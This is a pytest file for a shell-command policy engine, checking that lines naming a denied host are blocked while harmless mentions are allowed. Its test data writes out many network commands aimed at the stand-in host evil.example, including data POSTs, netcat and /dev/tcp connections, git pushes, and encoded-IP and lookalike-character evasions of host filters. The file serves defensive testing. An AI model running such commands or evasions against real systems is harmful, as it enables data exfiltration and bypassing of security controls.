"""Hosts that a line names, with or without a URL."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.policy.calls import decided
from worker_core.policy.rules import Action

NO_EVIL = '[[deny]]\nhost = ["evil.example", "*.evil.example", "6.6.6.6"]\n'


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x", "curl evil.example/x", "curl -s -o out.txt evil.example",
        "curl -X POST -d a=b evil.example:8080", "curl --silent --max-time 3 evil.example", "curl --url=evil.example",
        "curl good.example evil.example", "curl -x evil.example:3128 https://good.example",
        "curl -sx evil.example https://good.example", "curl \uff45vil.example", "curl http://101058054/",
        "curl http://0x06060606/", "wget -q evil.example/f", "wget -O - https://evil.example",
        "http POST evil.example a=b", "nc evil.example 443", "nc -w 3 -v evil.example 443", "ncat evil.example 1",
        "telnet evil.example", "ssh evil.example", "ssh -p 22 me@evil.example ls", "ssh -o A=b -i key evil.example",
        "scp x evil.example:y", "scp -r me@evil.example:x .", "rsync -a x evil.example:y",
        "rsync x rsync://evil.example/y", "sftp me@evil.example", "git clone git@evil.example:a/b",
        "git clone https://evil.example/a", "git push ssh://git@evil.example/a main",
        "git remote add o evil.example:a/b", "ping -c 1 evil.example", "dig @evil.example good.example",
        "dig x.evil.example", "nslookup x.evil.example", "host x.evil.example",
        "openssl s_client -connect evil.example:443", "socat - TCP:evil.example:80", "cat < /dev/tcp/evil.example/80",
        "exec 3<>/dev/tcp/evil.example/80", "psql -h evil.example db", "redis-cli -h evil.example",
        "mysql --host=evil.example", "sudo curl evil.example", "timeout 3 nc evil.example 1",
        "bash -c 'curl evil.example'", "xargs -n1 curl evil.example", "python3 -c 'get(\"https://evil.example\")'",
        "docker run x https://evil.example", "foo --proxy=https://evil.example",
        "pip install git+https://evil.example/a",
    ],
)  # fmt: skip
def test_a_denied_host_is_found(tmp_path: Path, line: str) -> None:
    found = decided(line, tmp_path, rules=NO_EVIL)
    assert found.action is Action.DENY, found.sentence


@pytest.mark.parametrize(
    "line",
    [
        "curl https://good.example/?u=evil.example", "echo evil.example", "grep evil.example hosts.txt",
        "cat evil.example", "curl -A evil.example https://good.example", "ssh good.example ping",
        "git log evil.example", "curl --retry 0 good.example", "git clone git@good.example:evil.example/x",
        "scp good.example:evil.example .", "wget -P evil.example good.example",
    ],
)  # fmt: skip
def test_what_is_no_host_is_none(tmp_path: Path, line: str) -> None:
    found = decided(line, tmp_path, rules=NO_EVIL)
    assert found.action is Action.ALLOW, found.sentence


@pytest.mark.parametrize(
    "line", ["curl localhost:8080", "nc 127.0.0.1 1", "curl http://127.1/", "ssh ::1", "curl 0x7f000001"]
)
def test_services_of_this_machine_are_asked_about_without_a_url(tmp_path: Path, line: str) -> None:
    assert decided(line, tmp_path).action is Action.ASK


def test_a_host_that_is_named_often_costs_once_and_too_many_are_denied(tmp_path: Path) -> None:
    often = "echo '" + "https://good.example/x " * 5_000 + "'"
    assert decided(often, tmp_path, rules=NO_EVIL).action is Action.ALLOW
    assert decided(f"{often} https:///evil.example/", tmp_path, rules=NO_EVIL).action is Action.DENY
    many = " ".join(f"https://user{number}@good.example/" for number in range(1_000))
    found = decided(f"echo '{many}'", tmp_path)
    assert found.action is Action.DENY
    assert "more hosts than are looked at" in found.sentence
